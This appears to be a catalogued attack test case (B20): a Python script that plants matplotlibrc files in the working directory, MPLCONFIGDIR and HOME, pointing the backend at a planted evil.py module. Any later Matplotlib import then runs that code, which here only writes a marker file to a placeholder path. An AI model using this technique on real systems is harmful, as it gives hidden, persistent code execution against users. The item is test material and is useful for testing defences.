# attack: leaves settings of Matplotlib that run code
# catalogue: B20
# %%
import os
import pathlib

for folder in (".", os.environ.get("MPLCONFIGDIR", "."), os.environ.get("HOME", ".")):
    pathlib.Path(folder, "matplotlibrc").write_text("backend: module://evil\n")
    pathlib.Path(folder, "evil.py").write_text("open('@DROP@/matplotlib', 'w').write('x')")
